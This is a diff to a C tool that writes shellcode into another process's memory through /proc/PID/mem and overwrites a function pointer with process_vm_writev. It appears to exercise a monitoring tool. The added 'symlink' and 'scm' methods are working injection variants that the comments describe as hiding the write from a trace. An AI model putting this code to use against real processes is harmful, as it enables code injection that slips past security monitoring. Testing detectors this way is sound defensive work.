@@ -19,6 +19,11 @@
  *            the first descriptor closed, then lseek + writev on 100
  *   fork     /proc/PID/mem opened, then a forked child pwritev's on it
  *            (the child is the writer: its pid is printed)
+ *   symlink  a symbolic link /tmp/vigil-mem-PID to /proc/PID/mem opened,
+ *            then lseek + write on it
+ *   scm      a forked helper opens /proc/PID/mem and sends the descriptor
+ *            over a Unix socket pair (SCM_RIGHTS); this process receives
+ *            it and pwrite64's on it
  * The function pointer is always written with process_vm_writev. Prints
  * "pvw injected into PID at ADDR by OWNPID METHOD".
  */
@@ -29,6 +34,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <dirent.h>
+#include <sys/socket.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -133,6 +139,99 @@ static int put_forked(pid_t pid, uint64_t at, unsigned char *sc, size_t n,
     return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
 }
 
+/* Through a symbolic link the trace cannot tell from any other file. */
+static int put_symlink(pid_t pid, uint64_t at, unsigned char *sc, size_t n)
+{
+    char target[64], link[64];
+    snprintf(target, sizeof target, "/proc/%d/mem", pid);
+    snprintf(link, sizeof link, "/tmp/vigil-mem-%d", pid);
+    unlink(link);
+    if (symlink(target, link) < 0)
+        return -1;
+    int fd = open(link, O_RDWR);
+    unlink(link);
+    if (fd < 0)
+        return -1;
+    ssize_t w = -1;
+    if (lseek(fd, (off_t)at, SEEK_SET) == (off_t)at)
+        w = write(fd, sc, n);
+    close(fd);
+    return w == (ssize_t)n ? 0 : -1;
+}
+
+/* The helper's side: open /proc/PID/mem and send the descriptor. */
+static int send_mem_fd(int sock, pid_t pid)
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/mem", pid);
+    int fd = open(path, O_RDWR);
+    if (fd < 0)
+        return -1;
+    char byte = 'm';
+    struct iovec iov = {&byte, 1};
+    union {
+        char buf[CMSG_SPACE(sizeof(int))];
+        struct cmsghdr align;
+    } u;
+    memset(&u, 0, sizeof u);
+    struct msghdr mh = {.msg_iov = &iov,
+                        .msg_iovlen = 1,
+                        .msg_control = u.buf,
+                        .msg_controllen = sizeof u.buf};
+    struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+    c->cmsg_level = SOL_SOCKET;
+    c->cmsg_type = SCM_RIGHTS;
+    c->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(c), &fd, sizeof fd);
+    return sendmsg(sock, &mh, 0) == 1 ? 0 : -1;
+}
+
+static int recv_fd(int sock)
+{
+    char byte;
+    struct iovec iov = {&byte, 1};
+    union {
+        char buf[CMSG_SPACE(sizeof(int))];
+        struct cmsghdr align;
+    } u;
+    struct msghdr mh = {.msg_iov = &iov,
+                        .msg_iovlen = 1,
+                        .msg_control = u.buf,
+                        .msg_controllen = sizeof u.buf};
+    if (recvmsg(sock, &mh, 0) != 1)
+        return -1;
+    struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+    int fd = -1;
+    if (c != NULL && c->cmsg_level == SOL_SOCKET &&
+        c->cmsg_type == SCM_RIGHTS && c->cmsg_len == CMSG_LEN(sizeof(int)))
+        memcpy(&fd, CMSG_DATA(c), sizeof fd);
+    return fd;
+}
+
+/* A descriptor another process opened, received over a Unix socket: the
+ * trace sees no open of the file in this process. */
+static int put_scm(pid_t pid, uint64_t at, unsigned char *sc, size_t n)
+{
+    int sv[2];
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
+        return -1;
+    pid_t c = fork();
+    if (c == 0) {
+        close(sv[0]);
+        _exit(send_mem_fd(sv[1], pid) == 0 ? 0 : 1);
+    }
+    close(sv[1]);
+    int fd = c > 0 ? recv_fd(sv[0]) : -1;
+    close(sv[0]);
+    if (c > 0)
+        waitpid(c, NULL, 0);
+    if (fd < 0)
+        return -1;
+    ssize_t w = pwrite(fd, sc, n, (off_t)at);
+    close(fd);
+    return w == (ssize_t)n ? 0 : -1;
+}
+
 int main(int argc, char **argv)
 {
     if (argc != 4 && argc != 5) {
@@ -143,10 +242,11 @@ int main(int argc, char **argv)
     uint64_t hook = strtoull(argv[2], NULL, 16);
     uint64_t arena = strtoull(argv[3], NULL, 16);
     const char *how = argc == 5 ? argv[4] : "pvw";
-    static const char *const methods[] = {"pvw",  "split", "writev", "pwritev",
-                                          "move", "tid",   "dup",    "fork"};
+    static const char *const methods[] = {
+        "pvw", "split", "writev", "pwritev", "move",
+        "tid", "dup",   "fork",   "symlink", "scm"};
     int m = -1;
-    for (int i = 0; i < 8; i++)
+    for (int i = 0; i < (int)(sizeof methods / sizeof methods[0]); i++)
         if (!strcmp(how, methods[i]))
             m = i;
     if (m < 0) {
@@ -164,6 +264,10 @@ int main(int argc, char **argv)
         r = put_mem(pid, at, sc, n, m == 3, m == 6);
     } else if (m == 7) {
         r = put_forked(pid, at, sc, n, &writer);
+    } else if (m == 8) {
+        r = put_symlink(pid, at, sc, n);
+    } else if (m == 9) {
+        r = put_scm(pid, at, sc, n);
     } else {
         r = put(m == 5 ? other_thread(pid) : pid, at, sc, n);
     }
